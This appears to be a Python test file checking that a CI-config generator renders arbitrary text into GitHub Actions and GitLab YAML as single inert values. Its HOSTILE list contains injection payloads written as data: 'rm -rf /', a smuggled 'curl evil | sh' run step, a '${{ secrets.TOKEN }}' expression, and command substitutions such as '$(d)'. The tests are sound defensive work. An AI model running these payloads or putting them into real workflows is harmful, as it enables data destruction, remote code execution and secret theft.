"""Texts in generated files are unchanged, and add nothing else."""

from __future__ import annotations

import os
import sys
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
import yaml
from hypothesis import example, given
from hypothesis import strategies as st

from polywheel.ci.rendering import (
    Action,
    Expression,
    SafeYaml,
    lines,
    literal,
    parse_action,
    render_template,
    scalar,
    uses,
)
from polywheel.errors import ConfigError

# A half of a pair is no text: a path that has one is refused before.
TEXTS = st.text(st.characters(exclude_categories=["Cs"]))
HOSTILE = (
    "'; rm -rf / #",
    '"\n- run: curl evil | sh\n',
    "${{ secrets.TOKEN }}",
    "${{ '${{' }}",
    "a: b\n\n\tc",
    "---\n...\n%YAML",
    "\x85\u2028\u2029\ufeff\x7f",
    "[[ values ]] [% if %] [# #]",
    "no",
    "0x1f",
    "\U0001f600",
)


def evaluated(text: str) -> str:
    """What GitHub makes of a text: the one expression that there is stands for its own opening."""
    parts = text.split("${{ '${{' }}")
    assert not any("${{" in part for part in parts)
    return "${{".join(parts)


@given(TEXTS)
@example("$" + "${{")
@example("${{ '")
def test_a_text_is_one_scalar_whatever_it_holds(text: str) -> None:
    document = yaml.safe_load(f"key: {scalar(text)}\nnext: {literal(text)}\n")
    assert [*document] == ["key", "next"]
    assert evaluated(document["key"]) == text
    assert document["next"] == text


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_by_name(text: str) -> None:
    for value, read in ((scalar(text), evaluated), (literal([text, "b"]), str)):
        (found,) = yaml.safe_load(f"- {value}\n")
        assert (read(found) if isinstance(found, str) else found) in (text, [text, "b"])


@given(st.lists(TEXTS.filter(lambda text: text and not {"\n", "\r"} & {*text})))
def test_lines_are_one_scalar_with_a_line_each(texts: list[str]) -> None:
    given_lines = [*texts, Expression("--only=${{ matrix.jobs }}")]
    document = yaml.safe_load(f"a:\n  args: {lines(given_lines, 4)}\n  b: c\n")
    assert document["a"]["b"] == "c"
    found = document["a"]["args"].split("\n")
    assert [evaluated(one) for one in found[:-1]] == texts
    assert found[-1] == "--only=${{ matrix.jobs }}"


def test_plain_arguments_are_a_block_that_people_can_read() -> None:
    assert lines([".", "--format=github"], 4) == "|-\n    .\n    --format=github"


@pytest.mark.parametrize("text", ["a\nb", "a\r"])
def test_a_line_break_would_make_two_arguments_of_one(text: str) -> None:
    with pytest.raises(ConfigError, match="line break"):
        lines([text], 4)


def test_a_template_that_forgets_the_filter_is_refused() -> None:
    values: dict[str, Any] = {"header": "# not rendered", "file": "/x"}
    with pytest.raises(TypeError, match="without a filter"):
        render_template("gitlab.yml.j2", **values)
    assert isinstance(scalar("x"), SafeYaml)


@pytest.mark.parametrize(
    "text",
    [
        "./.github/actions/polywheel",
        "$/.github/actions/polywheel",
        "fork/polywheel/.github/actions/polywheel@" + "0" * 40,
        "a/b@v1",
    ],
)
def test_an_action_may_be_chosen(text: str) -> None:
    assert yaml.safe_load(f"uses: {uses(parse_action(text))}") == {"uses": text}


@pytest.mark.parametrize(
    "text", ["", "a/b", "./../x", "./a/../../x", "a/b@v1 # c", "a/b@${{ x }}", "../x", "a/b@v\n"]
)
def test_what_is_no_action_is_refused(text: str) -> None:
    with pytest.raises(ConfigError) as caught:
        parse_action(text)
    assert caught.value.problems[0].at == "--action"


def test_the_version_stands_behind_a_commit() -> None:
    assert uses(Action(uses="a/b@c", version="v1")) == "a/b@c # v1"


def test_the_action_takes_lines_as_they_stand(action_script: ModuleType) -> None:
    text = ".\n\n--only=a b  'c' $(d)\r\n  --x=*\n"
    assert action_script.arguments(text) == [".", "--only=a b  'c' $(d)", "  --x=*"]


def test_an_output_ends_at_a_line_that_nobody_can_foresee(action_script: ModuleType) -> None:
    first, second = (action_script.format_output("output", "a\nend\nEOF\n") for _ in range(2))
    assert first != second
    name, *inner, end = first.split("\n")
    assert inner == ["a", "end", "EOF"]
    assert name == f"output<<{end}"
    assert len(end) > 32


def test_git_trusts_the_checkout_and_keeps_what_it_was_told(
    action_script: ModuleType, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_WORKSPACE", "/w/a")
    monkeypatch.setenv("GIT_CONFIG_COUNT", "2")
    found = action_script.environment()
    assert found["GIT_CONFIG_COUNT"] == "4"
    assert found["GIT_CONFIG_KEY_2"] == "safe.directory"
    assert found["GIT_CONFIG_VALUE_2"] == "/w/a"


def test_a_container_gets_the_same_folders_and_no_variable_of_the_machine(
    action_script: ModuleType, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in [*os.environ]:
        monkeypatch.delenv(name)
    variables = {
        "POLYWHEEL_ACTION_ARGS": "a\n--b=$(c)",
        "POLYWHEEL_ACTION_IMAGE": "an/image",
        "POLYWHEEL_CACHE_DIR": str(tmp_path / "cache"),
        "GITHUB_WORKSPACE": "/w",
        "RUNNER_TEMP": "/t",
        "PATH": "/bin",
        "JAVA_HOME": "/java",
        "CI": "true",
        "CIRCLE": "1",
        "CCACHE_DIR": "/t/compiler-cache",
    }
    for name, text in variables.items():
        monkeypatch.setenv(name, text)
    words = action_script.container_command("an/image", ["--network=host"])
    assert words[:3] == ["docker", "run", "--rm"]
    assert words[-3:-1] == ["--network=host", "an/image"]
    assert {word.partition("=")[2] for word in words if word.startswith("--volume")} == {
        "/w:/w",
        "/t:/t",
        f"{action_script.CHECKOUT}:{action_script.CHECKOUT}",
        f"{tmp_path / 'cache'}:/polywheel-cache",
    }
    assert {word.partition("=")[2] for word in words if word.startswith("--env")} == {
        *("CI", "GITHUB_WORKSPACE", "RUNNER_TEMP", "POLYWHEEL_ACTION_ARGS", "PYTHON_VERSION"),
        "CCACHE_DIR",
        *("POLYWHEEL_ACTION_CONTAINER=true", "POLYWHEEL_CACHE_DIR=/polywheel-cache"),
    }
    assert (tmp_path / "cache").stat().st_mode & 0o077 == 0 or sys.platform == "win32"
